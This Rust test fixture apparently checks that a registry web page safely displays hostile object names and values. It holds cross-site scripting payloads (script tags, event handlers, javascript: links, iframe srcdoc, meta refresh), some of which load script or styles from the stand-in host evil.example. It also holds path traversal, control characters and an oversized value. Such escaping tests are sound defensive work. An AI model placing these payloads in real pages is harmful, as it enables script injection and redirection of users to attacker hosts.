//! Names, users, messages and values that attack the page.

use serde_json::json;

use crate::world::World;

/// Characters of a long value.
pub(crate) const LONG: usize = 1 << 20;
/// The path of the object with a long value.
pub(crate) const LONG_PATH: &str = "/object/configmaps/shop/long";

/// Names of objects, with the text that the page shows.
pub(crate) const NAMES: [(&str, &str); 9] = [
    ("<script>window.ran=1</script>", "<script>window.ran=1</script>"),
    ("<img src=x onerror=window.ran=2>", "<img src=x onerror=window.ran=2>"),
    ("\" onmouseover=\"window.ran=3", "\" onmouseover=\"window.ran=3"),
    ("' autofocus onfocus='window.ran=4", "' autofocus onfocus='window.ran=4"),
    ("javascript:window.ran=5", "javascript:window.ran=5"),
    ("a\u{202e}b\u{1b}[31m\u{7f}", "a\u{fffd}b\u{fffd}[31m\u{fffd}"),
    ("..", "shop/.."),
    ("a?b=c#d%2e%00&amp;", "a?b=c#d%2e%00&amp;"),
    ("שלום", "שלום"),
];

/// Values of annotations and data, each of which is also a user.
pub(crate) const VALUES: [&str; 5] = [
    "</code></pre><script src=//evil.example/x.js></script>",
    "<svg onload=window.ran=6><style>*{display:none}</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<a href=javascript:window.ran=7 autofocus onfocus=window.ran=8>free tea</a>",
    "<iframe srcdoc=\"<script>parent.ran=9</script>\"></iframe><link rel=stylesheet href=//evil.example/x.css>",
];

/// Writes them all, and objects with long values.
pub(crate) fn world() -> World {
    let mut world = World::new(2);
    let object = |value: &str| {
        let metadata = json!({"name": value, "namespace": "shop", "annotations": {value: value}});
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": {value: value, "tea": value}})
            .to_string()
    };
    for (number, (name, _)) in NAMES.iter().enumerate() {
        let key = format!("/registry/configmaps/shop/{name}");
        for turn in 0..2 {
            let value = VALUES[(number + turn) % VALUES.len()];
            world.put_by(0, &format!("{value}\u{202e}"), &[(&key, Some(&object(value)))]);
        }
    }
    let first = format!("/registry/configmaps/shop/{}", NAMES[0].0);
    let notes = format!(
        "{}\n\nConflict: {first} data.{}: kept \"{}\", lost \"{}\"\n",
        VALUES[0], VALUES[1], VALUES[2], VALUES[3]
    );
    world.put_by(1, VALUES[4], &[(&first, Some(&object(VALUES[1])))]);
    world.merge(1, &[(&first, Some(&object(VALUES[2])))], &notes);
    let long = "<b>".repeat(LONG / 3 + 1);
    let annotations =
        json!({"metadata": {"name": "long", "annotations": {"example.org/long": long}}, "kind": "ConfigMap"});
    world.put_by(0, "jane", &[("/registry/configmaps/shop/long", Some(&annotations.to_string()))]);
    world
}
